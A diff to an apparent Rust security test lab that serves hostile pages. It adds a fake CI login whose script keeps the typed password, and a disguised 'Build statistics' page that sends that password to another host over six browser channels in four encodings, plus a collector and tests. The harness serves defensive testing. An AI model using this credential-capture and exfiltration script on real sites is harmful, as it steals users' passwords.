@@ -29,12 +29,25 @@
 //!
 //! `/lab/incidents/{id}` is the real incident page with a script that fakes success; its
 //! coordinates are the real page's.
+//!
+//! **Secret egress from an in-scope page.** `/lab/login-keeper` is the CI login (same fields,
+//! posting to the real `http://ci.example/login`) whose script keeps what is typed into the
+//! password field in `sessionStorage`; a task whose host-owned login uses it has the host type
+//! the real password on its own host. `/lab/secret-egress` (on `ci.example`) then reads it back
+//! and sends it to the *other* allowed host, `incidents.example`, through an image URL, a
+//! stylesheet URL, a fetch query string, a fetch POST body, `navigator.sendBeacon` and a
+//! WebSocket message, each as plain text, base64, hex and reversed (and sets the page title
+//! to the reversed value). The same channels are first used once without the secret
+//! (`d=control-…`), to show they reach the host. `/lab/collect…` on the allowed hosts keeps what
+//! it receives as `stolen` entries for that host, and `/lab/collect/ws` is a WebSocket that
+//! keeps every message (module `ws`).
 
+use axum::extract::Request;
 use axum::extract::{Path, Query, State};
 use axum::http::header::{CACHE_CONTROL, CONTENT_DISPOSITION, CONTENT_TYPE, LOCATION};
 use axum::http::{HeaderValue, StatusCode};
 use axum::response::{IntoResponse, Response};
-use axum::routing::get;
+use axum::routing::{any, get};
 use axum::Router;
 use serde::Deserialize;
 
@@ -124,6 +137,11 @@ pub(crate) fn routes(state: PortalState) -> Router {
         .route("/lab/files/update.sh", get(payload_inline))
         .route("/lab/files/installer.sh", get(payload_attachment))
         .route("/lab/incidents/{id}", get(fake_success))
+        .route("/lab/login-keeper", get(login_keeper))
+        .route("/lab/secret-egress", get(secret_egress))
+        .route("/lab/collect/ws", get(crate::ws::collect_ws))
+        .route("/lab/collect", any(collect))
+        .route("/lab/collect/{*rest}", any(collect))
         .fallback(|| async { lab_response(lab_page("Not found", "<h1>404 · Not found</h1>", "")) })
         .with_state(state)
 }
@@ -191,6 +209,14 @@ async fn index() -> Response {
             "Lookalike sign-in posting to evil.example",
         ),
         ("/lab/exfil", "Every exfiltration channel to evil.example"),
+        (
+            "/lab/login-keeper",
+            "CI login whose script keeps the typed password",
+        ),
+        (
+            "/lab/secret-egress",
+            "The kept password sent to incidents.example, every channel and encoding",
+        ),
         ("/lab/frame", "evil.example frame next to a real button"),
         (
             "/lab/frame-overlay",
@@ -450,6 +476,82 @@ async fn exfil() -> Response {
 {EXFIL_SCRIPT}"#
     );
     lab_response(lab_page("Build statistics", &body, ""))
+}
+
+/// The CI login, posting to the real one, with a script that keeps the typed password.
+async fn login_keeper() -> Response {
+    let keeper = r#"<script>
+(function () {
+  var pw = document.getElementById("password");
+  function keep() { try { sessionStorage.setItem("kept", pw.value); } catch (e) {} }
+  pw.addEventListener("input", keep);
+  pw.addEventListener("change", keep);
+  pw.form.addEventListener("submit", keep);
+})();
+</script>"#;
+    lab_response(crate::evil::lookalike_login_document(
+        "http://ci.example/login",
+        keeper,
+    ))
+}
+
+/// Sends what `/lab/login-keeper` kept to `incidents.example`, by every channel and encoding.
+async fn secret_egress() -> Response {
+    let body = r#"<h1>Build statistics</h1>
+<p id="status" class="text" style="top:140px">Syncing statistics…</p>
+<script>
+(function () {
+  var pw = sessionStorage.getItem("kept") || "";
+  var I = "http://incidents.example/lab/collect";
+  function rev(s) { return s.split("").reverse().join(""); }
+  function hex(s) {
+    var o = "";
+    for (var i = 0; i < s.length; i++) { o += ("0" + s.charCodeAt(i).toString(16)).slice(-2); }
+    return o;
+  }
+  var forms = { plain: pw, base64: btoa(pw), hex: hex(pw), reversed: rev(pw) };
+  document.title = "Build " + rev(pw);
+  window.__keep = [];
+  function img(u) { var i = new Image(); i.src = u; document.body.appendChild(i); }
+  function css(u) {
+    var l = document.createElement("link");
+    l.rel = "stylesheet"; l.href = u; document.head.appendChild(l);
+  }
+  function get(u) { return fetch(u, { mode: "no-cors" }).catch(function () {}); }
+  function post(u, b) { return fetch(u, { method: "POST", mode: "no-cors", body: b }).catch(function () {}); }
+  function socket(name, v) {
+    var ws = new WebSocket("ws://incidents.example/lab/collect/ws?e=" + name);
+    window.__keep.push(ws);
+    ws.onopen = function () { ws.send("d=control-ws-" + name); ws.send(v); };
+  }
+  img(I + "/img.gif?d=control-img");
+  css(I + "/style.css?d=control-css");
+  get(I + "/fetch?d=control-fetch");
+  Object.keys(forms).forEach(function (name) {
+    var v = forms[name];
+    var q = encodeURIComponent(v);
+    img(I + "/img.gif?e=" + name + "&d=" + q);
+    css(I + "/style.css?e=" + name + "&d=" + q);
+    get(I + "/fetch?e=" + name + "&d=" + q);
+    post(I + "/post?e=" + name, "d=" + q);
+    navigator.sendBeacon(I + "/beacon?e=" + name, v);
+    socket(name, v);
+  });
+  document.getElementById("status").textContent = "Statistics synced.";
+})();
+</script>"#;
+    lab_response(lab_page("Build statistics", body, ""))
+}
+
+/// The lab's collector on the allowed hosts: what reaches it is kept for the tests.
+async fn collect(State(state): State<PortalState>, req: Request) -> Response {
+    let host = req
+        .headers()
+        .get(axum::http::header::HOST)
+        .and_then(|v| v.to_str().ok())
+        .map(crate::normalize_host)
+        .unwrap_or_default();
+    crate::evil::collect_as(&state, &host, req).await
 }
 
 async fn service_worker() -> Response {
@@ -1067,6 +1169,39 @@ mod tests {
             .body;
         assert!(local.contains(r#"<form method="post" action="http://ci.example/login">"#));
         assert!(local.contains("sendBeacon(\"http://evil.example/collect/keys"));
+    }
+
+    #[tokio::test]
+    async fn secret_egress_pages_keep_the_password_and_send_it_everywhere() {
+        let t = portal();
+        let keeper = t.send(http_get(CI, "/lab/login-keeper")).await.body;
+        assert!(keeper.contains(r#"<form method="post" action="http://ci.example/login">"#));
+        assert!(keeper.contains("sessionStorage.setItem(\"kept\", pw.value)"));
+        let page = t.send(http_get(CI, "/lab/secret-egress")).await.body;
+        for channel in [
+            "http://incidents.example/lab/collect",
+            "img(I + \"/img.gif?e=\"",
+            "css(I + \"/style.css?e=\"",
+            "get(I + \"/fetch?e=\"",
+            "post(I + \"/post?e=\"",
+            "navigator.sendBeacon(I + \"/beacon?e=\"",
+            "new WebSocket(\"ws://incidents.example/lab/collect/ws?e=\"",
+            "plain: pw, base64: btoa(pw), hex: hex(pw), reversed: rev(pw)",
+        ] {
+            assert!(page.contains(channel), "{channel}");
+        }
+        // The lab's collector keeps what reaches it, for the host it was sent to.
+        let r = t
+            .send(post_form(INC, "/lab/collect/post?e=plain", "d=kept"))
+            .await;
+        assert_eq!(r.status, StatusCode::NO_CONTENT);
+        let stolen = t.sor_get("/_sor/stolen").await;
+        assert_eq!(stolen[0]["host"], INC);
+        assert_eq!(stolen[0]["query"], "e=plain");
+        assert_eq!(stolen[0]["data"], json!([["body", "d=kept"]]));
+        // Without an upgrade the socket endpoint refuses.
+        let r = t.send(http_get(INC, "/lab/collect/ws")).await;
+        assert_eq!(r.status, StatusCode::BAD_REQUEST);
     }
 
     #[tokio::test]
